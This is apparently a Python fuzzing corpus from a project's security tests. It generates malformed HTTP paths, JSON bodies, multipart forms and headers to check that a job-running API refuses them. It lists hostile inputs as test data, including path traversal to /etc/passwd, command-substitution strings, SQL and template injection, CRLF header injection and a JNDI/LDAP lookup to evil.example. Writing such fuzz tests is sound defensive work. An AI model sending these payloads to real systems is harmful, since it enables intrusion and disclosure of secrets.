"""Bad requests that are HTTP: paths, JSON, forms and headers; each list whole, and mutations of it without end.

`fixed` yields every case that is written down, `random_case` one by chance. The framing is in
`framing_corpus`, what is wrong by the OpenAPI document in `schema_corpus`.
"""

import json
from collections.abc import Iterator
from random import Random
from typing import Any
from urllib.parse import quote

from tests.security import framing_corpus
from tests.security.http_cases import JOB, WORKER, Case, request

# Paths

_ESCAPES = (
    "../../etc/passwd", "../../../../../../etc/passwd", "/etc/passwd", "//etc/passwd", "///etc//passwd", "..", ".",
    "./a", "a/../../b", "a/./b", "a//b", "..\\..\\etc\\passwd", "C:\\Windows\\win.ini", "\\\\host\\share", "a\\..\\b",
    "~", "~root", "..;/a", "..;a=b/c", "....//....//etc/passwd", "..../", "...", "a/..", "a/.", "a/", "-", "--help",
    "$(id)", "`id`", "${HOME}", "%s%n", "{{7*7}}", "'; DROP TABLE jobs; --", "<script>", "file:///etc/passwd",
    "http://evil.example/", "dev/null", "/dev/zero", "/proc/self/environ", "../proc/self/fd/3", "/dev/stdin", "CON",
    "NUL", "aux.txt", "a\x00b", "a\x00.txt", "\x00", "a\nb", "a\r\nX-Injected: 1", "a\tb", "\x1b[31m", "\x7f", "a b",
    " ", "\u202egnp.exe", "\u2028", "\ufeffa", "\u2024\u2024/etc", "\uff0e\uff0e/etc", "\u2215etc\u2215passwd",
    "e\u0301", "\u00e9", "\U0001f600", "\ud7ff", "\ufffd", "a" * 255, "a" * 256, "a" * 4000, "a/" * 500,
    "/".join(["a" * 200] * 20), "outputs", "archive", "archive/", "../inputs/a", "outputs/../../params.json",
)  # fmt: skip
_RAW = (
    "%2e%2e/%2e%2e/etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%2f..%2fetc%2fpasswd", "..%5c..%5cetc%5cpasswd",
    "%252e%252e%252fetc", "%25252e%25252e", "..%252f..%252fetc%252fpasswd", "..%c0%af..%c0%afetc", "%c0%ae%c0%ae/",
    "..%ef%bc%8fetc", "%2fetc%2fpasswd", "%5cetc", "%00", "a%00.txt", "%0d%0aX-Injected:%201", "%ff", "%fe%ff", "%80",
    "%ed%a0%80", "%f4%90%80%80", "%u002e%u002e", "%", "%2", "%zz", "%%", "%2e", "%2e%2e", "%2e/", "a%2f..%2f..%2fb",
    "a;b=c", "a?b", "a#b", "a%3fb", "a%23b", "%7e", "%2500", "%5c..%5c", "..%00/", "%09", "%20",
)  # fmt: skip
PATHS = tuple(dict.fromkeys([*(quote(text, safe="/~;") for text in _ESCAPES), *_RAW]))
PLACES = (
    ("GET", f"/v1/jobs/{JOB}/outputs/files/@"),
    ("GET", f"/jobs/{JOB}/outputs/@"),
    ("GET", f"/pixyz/jobs/{JOB}/outputs/@"),
    ("HEAD", f"/v1/jobs/{JOB}/outputs/files/@"),
    ("GET", "/v1/jobs/@"),
    ("GET", "/v1/jobs/@/outputs"),
    ("GET", "/v1/jobs/@/log"),
    ("GET", "/v1/jobs/@/result"),
    ("POST", "/v1/jobs/@/stop"),
    ("GET", "/v1/workloads/@"),
    ("DELETE", "/v1/workloads/@"),
    ("POST", "/v1/workers/@/drain"),
    ("POST", "/v1/workers/@/release"),
    ("GET", "/processes/@"),
    ("GET", "/jobs/@/details"),
    ("GET", "/jobs/@/outputs/archive"),
    ("GET", "/backend/get_task_meta/@"),
    ("GET", "/@"),
    ("GET", "/subprocess/job/get_status?job_id=@"),
    ("DELETE", "/altron/subprocess/job/terminate?job_id=@"),
    ("GET", "/v1/jobs?after=@"),
)


def path_case(place: tuple[str, str], path: str) -> Case:
    """A path where a part of a path is expected."""
    method, template = place
    # The last places are those whose parameters may be any text, and what stands at the root may be a page.
    refused = "?" not in template and template != "/@" and path not in ("archive", "archive/", "a/", ".", "%2e", "")
    target = template.replace("@", path).encode("latin-1", "replace")
    documented = template.partition("?")[0].replace("@", "x" if path else "")
    raw = request(method, target, b"" if method == "POST" else None)
    return Case(kind="path", name=path[:80], raw=raw, method=method, path=documented, refused=refused)


# JSON

_DEEP = 3000
BAD_JSON: dict[str, bytes] = {
    "a torn object": b'{"jobs": [',
    "a torn text": b'{"jobs": "abc',
    "garbage behind": b'{"jobs": []} x',
    "two values": b"{} {}",
    "a comment": b'{"a": 1 /* b */}',
    "a comma at the end": b'{"a": 1,}',
    "single quotes": b"{'a': 1}",
    "no quotes": b"{a: 1}",
    "Python": b"{'a': None, 'b': True}",
    "NaN": b'{"a": NaN}',
    "Infinity": b'{"a": Infinity}',
    "-Infinity": b'{"a": [-Infinity]}',
    "an overflow": b'{"a": 1e999}',
    "an overflow below zero": b'{"a": -1e400}',
    "very many digits": b'{"a": ' + b"9" * 5000 + b"}",
    "a leading zero": b'{"a": 01}',
    "a plus": b'{"a": +1}',
    "hex": b'{"a": 0x10}',
    "a bare point": b'{"a": .5}',
    "a key twice": b'{"a": 1, "a": 2}',
    "a key twice below": b'{"b": [{"a": 1, "a": 1}]}',
    "a key twice by an escape": b'{"a": 1, "\\u0061": 2}',
    "half of a surrogate pair": b'{"a": "\\ud800"}',
    "half of a surrogate pair as a key": b'{"\\udfff": 1}',
    "halves in the wrong order": b'{"a": "\\udc00\\ud800"}',
    "an encoded surrogate": b'{"a": "\xed\xa0\x80"}',
    "no UTF-8": b'{"a": "\xff\xfe"}',
    "an overlong slash": b'{"a": "\xc0\xaf"}',
    "UTF-16": '{"a": 1}'.encode("utf-16"),
    "UTF-32": '{"a": 1}'.encode("utf-32-le"),
    "a byte order mark": b'\xef\xbb\xbf{"a": 1}',
    "a control character": b'{"a": "\x01"}',
    "a line break in a text": b'{"a": "b\nc"}',
    "a NUL": b'{"a": "\x00"}',
    "a NUL behind": b'{"a": 1}\x00',
    "an unknown escape": b'{"a": "\\x41"}',
    "a torn escape": b'{"a": "\\u12"}',
    "lists too deep": b"[" * _DEEP + b"]" * _DEEP,
    "objects too deep": b'{"a":' * 100 + b"1" + b"}" * 100,
    "65 levels": b"[" * 65 + b"]" * 65,
    "depth without an end": b"[" * 100_000,
    "depth behind brackets": b'{"a": "' + b"]" * 200 + b'", "b": ' + b"[" * 200 + b"]" * 200 + b"}",
    "true in capitals": b"TRUE",
    "a word": b"undefined",
    "a form": b"a=1&b=2",
    "XML": b"<a>1</a>",
    "gzip": bytes.fromhex("1f8b0800000000000003abae050043bfa6a302000000"),
    "MessagePack": b"\x81\xa1a\x01",
}
WRONG_JSON: tuple[Any, ...] = (
    None, True, False, 0, -1, 1.5, 1e300, 2**63, 2**64, 10**30, "", "x", [], [[]], [None], [{}], {}, {"": 1},
    {"jobs": None}, {"jobs": {}}, {"jobs": [None]}, {"jobs": [[]]}, {"jobs": [{}]}, {"jobs": [{"argv": "sh"}]},
    {"jobs": [{"argv": [1]}]}, {"jobs": [{"argv": ["a\x00b"]}]}, {"jobs": [{"argv": ["a"], "env": {"A=B": "c"}}]},
    {"jobs": [{"argv": ["a"], "env": {"A": 1}}]}, {"jobs": [{"argv": ["a"], "timeout": -1}]},
    {"jobs": [{"argv": ["a"], "priority": 10**9}]}, {"jobs": [{"argv": ["a"], "cwd": "\x00"}]},
    {"jobs": [{"argv": ["a"], "files": [{"path": "../x", "text": ""}]}]},
    {"jobs": [{"argv": ["a"], "files": [{"path": "x"}]}]}, {"jobs": [{"argv": ["a"], "labels": {"a": None}}]},
    {"jobs": [{"stages": [{}]}]}, {"jobs": [{"argv": ["a"] * 20_000}]}, {"jobs": [{"workload": "../x"}]},
    {"jobs": [{"argv": ["a"], "key": "k" * 5000}]}, {"jobs": [{"argv": ["a"], "name": "\ud7ff\u202e" * 400}]},
    {"jobs": [], "more": 1}, {"ids": "x"}, {"ids": ["x"]}, {"ids": [None], "timeout": 0}, {"ids": [], "timeout": -1},
    {"ids": [], "timeout": "1"}, {"grace": -1}, {"grace": "x"}, {"grace": 1e300}, {"signal": 0}, {"signal": 65},
    {"signal": "SIGFOO"}, {"signal": None}, {"signal": [9]}, {"deadline": -1}, {"reason": "x" * 1000},
    {"leave": "yes"}, {"workloads": [{}]}, {"workloads": [{"name": "../x"}]},
    {"workloads": [{"name": "a"}, {"name": "a"}]},
    {"workloads": [{"name": "a", "params_schema": {"type": "nonsense"}}]},
    {"workloads": [{"name": "a", "argv": ["x"], "params_schema": {"$ref": "http://evil.example/"}}]},
    {"workloads": [{"name": "a", "runtime": "x"}]}, {"worker_id": 1}, {"worker_id": None, "job_id": []},
    {"worker_id": "x", "job_id": "y"}, {"worker_id": WORKER, "job_id": "../x"},
    {"worker_id": WORKER, "command": "a\x00", "path": ""}, {"WORKER_ID": WORKER, "Job_Id": "x"},
    {"title": 1, "description": "", "priority": 0}, {"title": "", "description": "", "priority": "1"},
    {"title": "", "description": ""}, {"title": "a", "description": "b", "priority": 1e30},
    {"title": "a", "description": "b", "priority": 1, "workload": "\x00"}, [{"sender": 1, "text": ""}],
    [{"sender": "a"}], [{"messaage": 1}], {"messages": {}}, [{"sender": "a", "text": "b", "image": 1}],
    {"containers": "a", "data": {}}, {"containers": [1], "data": {}}, {"containers": [], "data": {}},
    {"containers": ["a"], "data": []}, {"containers": ["a"] * 101, "data": {}}, {"containers": ["../x"], "data": {}},
    {"containers": ["echo"], "data": {}, "requires_proof": 1}, {"id": 1, "status": "running", "containers": []},
    {"id": "a", "status": "x", "containers": []}, {"id": "", "status": "failed", "containers": []},
    {"id": "a" * 1000, "status": "failed", "containers": []}, {"id": "a", "status": ["failed"], "containers": []},
    {"id": "a", "status": {}, "containers": [[]]},
)  # fmt: skip
JSON_PLACES = (
    "/start", "/scheduler/stop", "/query", "/v1/jobs", "/v1/jobs/wait", f"/v1/jobs/{JOB}/stop",
    f"/v1/jobs/{JOB}/signal", "/v1/workloads", f"/v1/workers/{WORKER}/drain", f"/v1/workers/{WORKER}/resume",
    f"/v1/workers/{WORKER}/release", "/subprocess/job/create", "/altron/discord/message", "/api/jobs",
    "/api/jobs/batch", "/api/jobs/stream", "/infernet/api/jobs", "/dev/callback", "/api/status",
)  # fmt: skip


def json_case(path: str, name: str, body: bytes, *, refused: bool) -> Case:
    """A body where JSON is expected."""
    method = "PUT" if path.endswith("/api/status") else "POST"
    raw = request(method, path, body, headers=("Content-Type: application/json",))
    return Case(kind="json", name=name, raw=raw, method=method, path=path, refused=refused)


def large_cases() -> Iterator[Case]:
    """Bodies of many mebibytes of the least that there is."""
    for name, (start, piece, end) in _LARGE.items():
        body = start + piece * (_LARGE_BYTES // len(piece)) + end
        yield json_case("/v1/jobs", name, body, refused=True)


_LARGE_BYTES = 15 * 1024 * 1024
_LARGE = {
    "very many numbers": (b"[", b"1,", b"1]"),
    "very many lists": (b"[", b"[],", b"1]"),
    "very many objects": (b'{"jobs":[', b"{},", b"{}]}"),
    "very many texts": (b"[" + b"[]," * 100_000, b'""', b"]"),
    "very many brackets": (b"[", b"[", b"]"),
    "a long text": (b'["', b"a", b'"]'),
    "very many escapes": (b"[" + b"[]," * 100_000 + b'"', b'\\"', b""),
}


def _mutated_json(random: Random) -> Case:
    body = bytearray(json.dumps(random.choice(WRONG_JSON)).encode())
    for _ in range(random.randrange(4)):
        place = random.randrange(len(body) + 1)
        if random.random() < 0.5:
            body[place:place] = random.choice(list(BAD_JSON.values()))[:60]
        else:
            body[place : place + random.randrange(3)] = random.randbytes(random.randrange(3))
    return json_case(random.choice(JSON_PLACES), "mutated", bytes(body), refused=False)


# Forms

_B = b"--B\r\n"
_END = b"--B--\r\n"
_PROCESS = _B + b'Content-Disposition: form-data; name="process"\r\n\r\nsleep\r\n'


def _file(head: bytes, content: bytes = b"x") -> bytes:
    return _B + head + b"\r\n\r\n" + content + b"\r\n" + _END


def _named(name: str, more: bytes = b"") -> bytes:
    head = b'Content-Disposition: form-data; name="%s"' % name.encode()
    return head + b"\r\n" + more if more else head


def _text(name: str, content: bytes) -> bytes:
    return _file(_named(name), content)


_FORM = "multipart/form-data; boundary=B"
BAD_FORMS: dict[str, tuple[str, bytes]] = {
    "no boundary": ("multipart/form-data", _PROCESS + _END),
    "an empty boundary": ("multipart/form-data; boundary=", _PROCESS + _END),
    "a long boundary": ("multipart/form-data; boundary=" + "B" * 300, _PROCESS + _END),
    "another boundary": ("multipart/form-data; boundary=C", _PROCESS + _END),
    "a boundary that is torn": ('multipart/form-data; boundary="B', _PROCESS + _END),
    "no end": (_FORM, _PROCESS),
    "nothing": (_FORM, b"\r\n"),
    "only dashes": (_FORM, b"-" * 5000),
    "no line break at all": (_FORM, _PROCESS.replace(b"\r\n", b"\n") + _END),
    "more parts than there may be": (_FORM, _PROCESS * 101 + _END),
    "very many parts": (_FORM, _PROCESS * 5000 + _END),
    "a long preamble": (_FORM, b"x" * 70_000 + b"\r\n" + _PROCESS + _END),
    "a long head": (_FORM, _file(b"X: " + b"a" * 20_000)),
    "very many headers": (_FORM, _file(b"X: y\r\n" * 500)),
    "a head without an end": (_FORM, _B + b"X: y\r\n" * 5000),
    "a header that is none": (_FORM, _file(b"nonsense")),
    "a header twice": (_FORM, _file(_named("a", b"Content-Disposition: form-data; name="))),
    "no name": (_FORM, _file(b"Content-Disposition: form-data")),
    "no disposition": (_FORM, _file(b"X-A: b")),
    "a torn name": (_FORM, _file(b'Content-Disposition: form-data; name="a')),
    "a NUL in a head": (_FORM, _file(b'Content-Disposition: form-data; name="a\x00"')),
    "base64": (_FORM, _file(_named("params", b"Content-Transfer-Encoding: base64"))),
    "gzip in a part": (_FORM, _file(_named("file", b"Content-Encoding: gzip"))),
    "an unknown charset": (_FORM, _file(_named("name", b"Content-Type: text/plain; charset=utf-7"))),
    "something behind a boundary": (_FORM, b"--B xyz\r\n" + _PROCESS[5:] + _END),
    "text that is no UTF-8": (_FORM, _text("process", b"\xff\xfe")),
    "params that are no JSON": (_FORM, _PROCESS + _text("params", b"{")),
    "params that are NaN": (_FORM, _PROCESS + _text("params", b"NaN")),
    "params that are too deep": (_FORM, _PROCESS + _text("params", b"[" * 9999)),
    "params that are too long": (_FORM, _PROCESS + _text("params", b'"' + b"a" * 300_000 + b'"')),
    "a config that is a list": (_FORM, _PROCESS + _text("config", b"[]")),
    "a config with a wrong limit": (_FORM, _PROCESS + _text("config", b'{"time_limit": "x"}')),
    "a config that leaves the folder": (_FORM, _PROCESS + _text("config", b'{"root_file": "../x"}')),
    "a process that is none": (_FORM, _text("process", b"../../etc")),
    "a name that is too long": (_FORM, _PROCESS + _text("name", b"n" * 5000)),
    "a file name that is too long": (
        _FORM,
        _file(b'Content-Disposition: form-data; name="file"; filename="' + b"a" * 600 + b'"'),
    ),
    "a script that is too long": (
        _FORM,
        _file(b'Content-Disposition: form-data; name="script"; filename="a.py"', b"#" * (1 << 20) + b"##"),
    ),
    "custom without a script": (_FORM, _text("process", b"custom")),
    "JSON": ("application/json", b'{"process": "sleep"}'),
    "no type": ("", b"process=sleep"),
    "a form that is no UTF-8": ("application/x-www-form-urlencoded", b"process=%ff"),
    "very many fields": ("application/x-www-form-urlencoded", b"&".join([b"a=b"] * 500)),
    "mixed": ("multipart/mixed; boundary=B", _PROCESS + _END),
    "an empty form": ("application/x-www-form-urlencoded", b""),
}
NESTED = _file(
    b'Content-Disposition: form-data; name="file"; filename="../../etc/passwd"\r\n'
    b"Content-Type: multipart/mixed; boundary=C",
    b"--C\r\n\r\nx\r\n--C--\r\n",
)


def form_case(path: str, name: str, kind: str, body: bytes, *, refused: bool, chunked: bool = False) -> Case:
    """A form for the PiXYZ API."""
    headers = (f"Content-Type: {kind}",) if kind else ()
    if chunked:
        raw = request("POST", path, None, (*headers, "Transfer-Encoding: chunked"))
        raw += b"".join(b"%x\r\n%s\r\n" % (len(piece), piece) for piece in _pieces(body)) + b"0\r\n\r\n"
    else:
        raw = request("POST", path, body, headers)
    return Case(kind="form", name=name, raw=raw, method="POST", path=path, refused=refused)


def _pieces(body: bytes, size: int = 997) -> Iterator[bytes]:
    for start in range(0, len(body), size):
        yield body[start : start + size]


def _mutated_form(random: Random) -> Case:
    kind, body = random.choice([*BAD_FORMS.values(), (_FORM, NESTED), (_FORM, _PROCESS + _END)])
    changed = bytearray(body[:20_000])
    for _ in range(random.randrange(1, 5)):
        place = random.randrange(len(changed) + 1)
        if random.random() < 0.5:
            changed[place:place] = random.choice(
                (*framing_corpus.TOKENS, _B, _END, b'name="', b"filename*=UTF-8''%ff", b"\r\n\r\n")
            )
        else:
            del changed[place : place + random.randrange(1, 20)]
    path = random.choice(("/jobs", "/jobs/", "/pixyz/jobs"))
    return form_case(path, "mutated", kind, bytes(changed), refused=False, chunked=random.random() < 0.3)


# Headers

_VALUES = (
    "", "x", "0", "-1", "9" * 30, "a" * 8000, "\x01"[:0] + "~", "\u00e9", "null", "*", ",", ";", "=", "()", '"', "W/",
    "bytes=", "bytes=-", "bytes=a-b", "bytes=0-0,1-1", "bytes=5-1", "bytes=99999999999999999999-", "bytes=-0",
    "bytes = 0-1", "lines=0-1", "gzip", "br", "zstd", "deflate, gzip", "identity", "100-continue", "101", "h2c",
    "websocket", "close, keep-alive", "Upgrade", "1.2.3", "0.1.18446744073709551616", "multipart/form-data",
    "application/json; charset=utf-7", "text/event-stream", "Bearer", "Bearer x", "Bearer hst_x_y", "Basic YTpi",
    "hst_aaaa_bbbb", "hst_", "hsj_a_b", "Thu, 99 Foo 0000 99:99:99 GMT", '"' + "a" * 64 + '"',
    "${jndi:ldap://evil.example/a}", "../../etc/passwd", "<script>", "a\tb",
)  # fmt: skip
_NAMES = (
    "Range", "If-Range", "If-None-Match", "If-Match", "If-Modified-Since", "Last-Event-ID", "Idempotency-Key",
    "Content-Type", "Content-Encoding", "Accept", "Accept-Encoding", "Expect", "Upgrade", "Authorization",
    "x-api-key", "Cookie", "Referer", "Origin", "Sec-Fetch-Site", "TE", "Trailer", "Via", "Forwarded",
    "X-Forwarded-For", "X-Forwarded-Host", "X-HTTP-Method-Override", "X-Original-URL", "User-Agent", "Content-Length",
    "Transfer-Encoding", "Content-Disposition", "HTTP2-Settings", "Keep-Alive", "Proxy-Connection", "traceparent",
    "Date", "Max-Forwards", "Sec-WebSocket-Key", "X-" + "a" * 300,
)  # fmt: skip
HEADER_PLACES = (
    ("GET", f"/v1/jobs/{JOB}/outputs/files/a.txt", None),
    ("GET", f"/jobs/{JOB}/outputs/archive", None),
    ("GET", f"/v1/jobs/{JOB}/log", None),
    ("POST", "/v1/jobs", framing_corpus.BODY),
    ("POST", "/v1/files", b"abc"),
    ("POST", "/jobs", _PROCESS + _END),
    ("POST", "/start", b"{}"),
    ("GET", "/subprocess/job/get_status", None),
    ("GET", "/metrics", None),
    ("GET", "/docs", None),
    ("GET", "/health", None),
    ("OPTIONS", "/v1/jobs", None),
    ("TRACE", "/v1/jobs", None),
    ("PATCH", "/jobs", b"{}"),
)
BAD_HOSTS = (
    "evil.example",
    "localhost.evil.example",
    "127.0.0.1.evil.example",
    "localhost:99999999",
    "[::1",
    "a b",
    "localhost/",
    "user@localhost",
    "\u00e9",
    "0",
)


def header_case(place: tuple[str, str, bytes | None], name: str, value: str) -> Case:
    """A header that means nothing, or too much."""
    method, path, body = place
    raw = request(method, path, body, (f"{name}: {value}".encode("latin-1", "replace"),))
    breaks_off = name.lower() in ("content-length", "transfer-encoding", "expect")
    return Case(
        kind="header", name=f"{name}: {value[:60]}", raw=raw, method=method, path=path, refused=False, silent=breaks_off
    )


def host_case(host: str) -> Case:
    """A name that is not this host's."""
    raw = request("GET", "/v1/jobs", host=b"Host: %s\r\n" % host.encode("latin-1", "replace"))
    return Case(kind="header", name=f"Host: {host}", raw=raw, method="GET", path="/v1/jobs")


# All


def fixed() -> Iterator[Case]:
    """Every case that is written down."""
    yield from framing_corpus.fixed()
    for path in PATHS:
        for place in PLACES:
            yield path_case(place, path)
    for name, body in BAD_JSON.items():
        for path in JSON_PLACES:
            yield json_case(path, name, body, refused=True)
    for value in WRONG_JSON:
        for path in JSON_PLACES:
            yield json_case(path, str(value)[:60], json.dumps(value).encode(), refused=False)
    yield from large_cases()
    for name, (kind, body) in BAD_FORMS.items():
        for path in ("/jobs", "/pixyz/jobs/"):
            yield form_case(path, name, kind, body, refused=True)
            yield form_case(path, f"{name}, in chunks", kind, body, refused=True, chunked=True)
    yield form_case("/jobs", "a form in a form", _FORM, NESTED, refused=False)
    for host in BAD_HOSTS:
        yield host_case(host)
    for name in _NAMES:
        for value in _VALUES:
            yield header_case(HEADER_PLACES[(len(name) + len(value)) % len(HEADER_PLACES)], name, value)


def random_case(random: Random) -> Case:
    """One by chance, of any kind."""
    match random.randrange(6):
        case 0 | 1:
            return framing_corpus.mutated(random)
        case 2:
            pieces = [random.choice(PATHS)[: random.randrange(1, 60)] for _ in range(random.randrange(1, 4))]
            case = path_case(random.choice(PLACES), random.choice(("", "/", "%2f")).join(pieces))
            return Case(**{name: getattr(case, name) for name in Case.__slots__} | {"refused": False})
        case 3:
            return _mutated_json(random)
        case 4:
            return _mutated_form(random)
        case _:
            return header_case(random.choice(HEADER_PLACES), random.choice(_NAMES), random.choice(_VALUES))
